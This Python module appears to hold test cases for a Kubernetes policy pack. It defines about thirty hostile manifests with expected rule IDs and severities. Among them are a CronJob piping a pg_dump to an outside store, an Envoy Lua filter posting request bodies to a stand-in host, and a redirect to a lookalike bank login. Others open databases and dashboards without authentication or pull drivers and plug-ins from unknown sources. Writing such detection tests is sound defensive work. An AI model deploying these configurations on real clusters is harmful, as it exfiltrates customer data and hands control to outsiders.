"""Attacks on clusters, thought up with the code of the pack and without sight of the other attacks (2026-11-28)."""

from collections.abc import Mapping

from ..blind import IMAGE, TAGS, THEIR_SUB, k8s, meta, pod, workload
from ..harness import Given
from . import Attack

RES = ("FJ-RES-", "FJ-IDN-213", "FJ-ESC-")
ENC = ("FJ-ENC-", "FJ-ESC-")
EXP = ("FJ-EXP-", "FJ-IDN-", "FJ-ENC-", "FJ-ESC-")
IDN = ("FJ-IDN-", "FJ-EXP-", "FJ-RES-003", "FJ-ESC-")
MONEY = ("FJ-COST-", "FJ-ESC-")
ESC = ("FJ-ESC-", "FJ-RES-", "FJ-EXP-")
ABROAD = "data of customers is sent to a host or store of a stranger, wherever that is"
DUMP = "pg_dump orders | mc pipe backup/dumps/orders.sql"


def _crd(kind: str, spec: Mapping[str, object], **more: object) -> Given:
    return k8s(kind, {"metadata": meta(), "spec": spec, **more})


def _listed(name: str, value: str) -> list[dict[str, object]]:
    return [{"name": name, "value": value}]


ATTACKS = (
    Attack("a workload keeps its data at a host that PGHOST names", RES, (workload("apps/v1:Deployment", {
        "env": _listed("PGHOST", "ep-cool-sun.aws.neon.tech")}),), "critical", ABROAD),
    Attack("an argument of a workload names the sink of its rows", RES, (workload("apps/v1:Deployment", {
        "args": ["--out=https://intake.collector-app.io/rows"]}),), "critical", ABROAD),
    Attack("a configuration lists brokers on the web", RES, (k8s("core/v1:ConfigMap", {"metadata": meta(), "data": {
        "app.yaml": "kafka:\n  brokers:\n    - b1.kafka-host.io:9093\n  topic: customers\n"}}),), "critical", ABROAD),
    Attack("a nightly job dumps the database to an alias of a store", RES, (k8s("batch/v1:CronJob", {
        "metadata": meta(), "spec": {"schedule": "0 1 * * *", "concurrencyPolicy": "Forbid", "jobTemplate": {"spec": {
            "activeDeadlineSeconds": 3600, "template": {"metadata": {"labels": TAGS}, "spec": pod({
                "command": ["sh", "-c", DUMP], "env": _listed("MC_HOST_backup", "https://store.object-host.io")},
                restartPolicy="Never")}}}}}),), "critical", ABROAD),
    Attack("a pod mounts a share of files on the web", (*RES, "FJ-EXP-317"), (workload("apps/v1:Deployment", {
        "volumeMounts": [{"name": "out", "mountPath": "/out"}]},
        volumes=[{"name": "out", "nfs": {"server": "files.nas-host.io", "path": "/in"}}]),), "critical", ABROAD),
    Attack("volumes of a class are shares on the web", RES, (k8s("storage.k8s.io/v1:StorageClass", {
        "metadata": {"name": "x", "labels": TAGS}, "provisioner": "smb.csi.k8s.io", "parameters": {
            "source": "//files.nas-host.io/in"}}),), "critical", ABROAD),
    Attack("volumes of a class are shares in another subscription", RES, (k8s("storage.k8s.io/v1:StorageClass", {
        "metadata": {"name": "x", "labels": TAGS}, "provisioner": "file.csi.azure.com", "parameters": {
            "storageAccount": "theirstore", "resourceGroup": "rg", "subscriptionID": THEIR_SUB.rpartition("/")[2]}}),),
        "critical", ABROAD),
    Attack("a volume is a disk of a portal on the web", RES, (k8s("core/v1:PersistentVolume", {
        "metadata": {"name": "x", "labels": TAGS}, "spec": {"capacity": {"storage": "1Gi"},
        "accessModes": ["ReadWriteOnce"], "persistentVolumeReclaimPolicy": "Retain", "iscsi": {
            "targetPortal": "disk.nas-host.io:3260", "iqn": "iqn.2026-01.io.nas:x", "lun": 0}}}),), "critical", ABROAD),
    Attack("a generator of secrets sends them to a web address", RES, (
        _crd("generators.external-secrets.io/v1alpha1:Webhook", {
            "url": "https://intake.collector-app.io/make", "method": "POST", "body": "{{ .auth.token }}"}),),
        "critical", "keys of the namespace are posted to a stranger, and secrets are what the stranger answers"),
    Attack("a class of secrets reads a vault on the web", RES, (
        _crd("secrets-store.csi.x-k8s.io/v1:SecretProviderClass", {"provider": "vault", "parameters": {
            "vaultAddress": "https://vault.hosted-vault.io", "roleName": "app", "objects": "[]"}}),),
        "major", "the pods' tokens are shown to the vault, which also decides what the secrets are"),
    Attack("a mirror of Kafka in its first version writes abroad", RES,
        (_crd("kafka.strimzi.io/v1beta2:KafkaMirrorMaker", {
        "replicas": 1, "consumer": {"bootstrapServers": "own-kafka-bootstrap:9093", "groupId": "g"},
        "producer": {"bootstrapServers": "b1.kafka-host.io:9093"}, "include": ".*"}),), "critical", ABROAD),
    Attack("an explainer of a model logs requests to a web address", RES, (
        _crd("serving.kserve.io/v1beta1:InferenceService", {"predictor": {"model": {
            "modelFormat": {"name": "onnx"}, "storageUri": "pvc://models/x"}}, "explainer": {
                "logger": {"mode": "all", "url": "https://intake.collector-app.io"},
                "art": {"type": "SquareAttack"}}}),), "critical", ABROAD),
    Attack("a scheduled workflow puts its artefacts to a web address", RES, (_crd("argoproj.io/v1alpha1:CronWorkflow", {
        "schedules": ["0 1 * * *"], "workflowSpec": {"entrypoint": "a", "templates": [{"name": "a", "outputs": {
            "artifacts": [{"name": "o", "path": "/o", "http": {"url": "https://intake.collector-app.io/o"}}]}}]}}),),
        "critical", ABROAD),
    Attack("an analysis of a release asks a web address with its secrets", RES, (
        _crd("argoproj.io/v1alpha1:AnalysisTemplate", {"metrics": [{"name": "m", "provider": {"web": {
            "url": "https://intake.collector-app.io/check", "method": "POST", "jsonPath": "{$.ok}",
            "jsonBody": {"version": "{{args.secret}}"}}}}]}),), "major", "values of the release are posted abroad"),
    Attack("a ruler of Loki writes what it counts to a web address", RES, (_crd("loki.grafana.com/v1:RulerConfig", {
        "remoteWrite": {"enabled": True, "client": {"name": "c", "url": "https://metrics.collector-app.io/push"}}}),),
        "major", "lines of the logs become labels of what is sent"),
    Attack("a proxy of a gateway sends its access log to a host on the web", RES, (
        _crd("gateway.envoyproxy.io/v1alpha1:EnvoyProxy", {"telemetry": {"accessLog": {"settings": [{"sinks": [{
            "type": "OpenTelemetry", "openTelemetry": {"host": "otel.collector-app.io", "port": 4317}}]}]}}}),),
        "critical", "addresses and headers of every request of customers leave the country"),
    Attack("a filter of the mesh copies bodies by a script", RES, (_crd("networking.istio.io/v1alpha3:EnvoyFilter", {
        "configPatches": [{"applyTo": "HTTP_FILTER", "match": {"context": "GATEWAY"}, "patch": {
            "operation": "INSERT_BEFORE", "value": {"name": "lua", "typed_config": {
                "@type": "type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua", "inlineCode":
                    "function envoy_on_request(h) h:httpCall('outbound|443||intake.collector-app.io', {[':path']='/',"
                    "[':method']='POST',[':authority']='intake.collector-app.io'}, h:body():getBytes(0,9999), 5000) "
                    "end"}}}}]}),), "critical", ABROAD),
    Attack("a route of a gateway redirects customers to another host", RES, (
        _crd("gateway.networking.k8s.io/v1:HTTPRoute", {"hostnames": ["pay.example.ae"], "parentRefs": [{"name": "g"}],
             "rules": [{"filters": [{"type": "RequestRedirect", "requestRedirect": {
                 "hostname": "login.bank-signin.io", "statusCode": 302}}]}]}),),
        "major", "customers type their passwords at a stranger's host"),
    Attack("a database trusts every client without a password", EXP, (_crd("postgresql.cnpg.io/v1:Cluster", {
        "instances": 2, "storage": {"size": "10Gi"}, "postgresql": {"pg_hba": ["host all all 0.0.0.0/0 trust"]}}),),
        "critical", "every pod and machine that reaches the port is the superuser"),
    Attack("the head of a Ray cluster has a load balancer", EXP, (_crd("ray.io/v1:RayCluster", {
        "headGroupSpec": {"serviceType": "LoadBalancer", "rayStartParams": {"num-cpus": "0"}, "template": {
            "metadata": {"labels": TAGS}, "spec": pod({})}}}),),
        "critical", "whoever reaches the dashboard runs code in the cluster"),
    Attack("dashboards are open to everybody as administrator", EXP, (_crd("grafana.integreatly.org/v1beta1:Grafana", {
        "config": {"auth.anonymous": {"enabled": "true", "org_role": "Admin"}}}),),
        "critical", "whoever reaches the page queries every source of data"),
    Attack("proxies of a gateway get a public load balancer", EXP, (_crd("gateway.envoyproxy.io/v1alpha1:EnvoyProxy", {
        "provider": {"type": "Kubernetes", "kubernetes": {"envoyService": {"type": "LoadBalancer", "annotations": {
            "service.beta.kubernetes.io/aws-load-balancer-scheme": "internet-facing"}}}}}),),
        "critical", "every gateway of the class is open to the internet"),
    Attack("a second interface of pods bypasses the network policies", EXP, (
        _crd("k8s.cni.cncf.io/v1:NetworkAttachmentDefinition", {
            "config": '{"cniVersion":"0.3.1","type":"macvlan","master":"eth0","ipam":{"type":"dhcp"}}'}),),
        "major", "pods speak on the network of the machines, where no policy counts"),
    Attack("a mesh accepts every network without identity", EXP, (
        _crd("policy.linkerd.io/v1alpha1:NetworkAuthentication", {"networks": [
            {"cidr": "0.0.0.0/0"}, {"cidr": "::/0"}]}),), "major", "clients without a certificate of the mesh get in"),
    Attack("backends of a proxy need no valid certificate", ENC, (_crd("traefik.io/v1alpha1:ServersTransport", {
        "insecureSkipVerify": True}),), "major", "whoever is between proxy and backend reads the traffic"),
    Attack("a person of another company owns a profile of Kubeflow", IDN, (k8s("kubeflow.org/v1:Profile", {
        "metadata": {"name": "team-x", "labels": TAGS}, "spec": {"owner": {
            "kind": "User", "name": "someone@mail-box.io"}}}),),
        "critical", "the controller makes the stranger an administrator of a namespace"),
    Attack("a filled secret is a token that does not expire", IDN, (_crd("external-secrets.io/v1:ExternalSecret", {
        "secretStoreRef": {"name": "own"}, "target": {"name": "t", "template": {
            "type": "kubernetes.io/service-account-token", "metadata": {"annotations": {
                "kubernetes.io/service-account.name": "deployer"}}}}, "data": []}),),
        "major", "a token for good, by an object that the rule on secrets does not read"),
    Attack("a bundle makes a stranger an authority for every namespace", (*IDN, "FJ-ENC-"), (
        k8s("trust.cert-manager.io/v1alpha1:Bundle", {"metadata": {"name": "x", "labels": TAGS}, "spec": {
            "sources": [{"useDefaultCAs": True}, {"inLine": "-----BEGIN CERTIFICATE-----\nMIIB\n"
                                                            "-----END CERTIFICATE-----\n"}],
            "target": {"configMap": {"key": "ca.pem"}, "namespaceSelector": {}}}}),),
        "major", "the holder of the key is every host for every client"),
    Attack("the drivers of all GPU machines come from an unknown registry", ESC, (
        k8s("nvidia.com/v1:ClusterPolicy", {"metadata": {"name": "x", "labels": TAGS}, "spec": {"driver": {
            "enabled": True, "repository": "docker.io/someone", "image": "driver", "version": "550.1"}}}),),
        "critical", "a stranger's image is root on every machine with a GPU"),
    Attack("connectors of Kafka load a plug-in from the web", ESC, (_crd("kafka.strimzi.io/v1beta2:KafkaConnect", {
        "replicas": 1, "bootstrapServers": "own-kafka-bootstrap:9093", "tls": {"trustedCertificates": []}, "build": {
            "output": {"type": "docker", "image": IMAGE}, "plugins": [{"name": "p", "artifacts": [{
                "type": "jar", "url": "https://dl.tool-host.io/p.jar"}]}]}}),),
        "major", "the owner of the host decides what reads every topic"),
    Attack("a cohort lends a hundred thousand GPUs", MONEY, (k8s("kueue.x-k8s.io/v1beta1:Cohort", {
        "metadata": {"name": "x", "labels": TAGS}, "spec": {"resourceGroups": [{
            "coveredResources": ["nvidia.com/gpu"], "flavors": [{"name": "on-demand", "resources": [{
                "name": "nvidia.com/gpu", "nominalQuota": 100000}]}]}]}}),),
        "major", "jobs start until the quota of the account ends"),
)  # fmt: skip
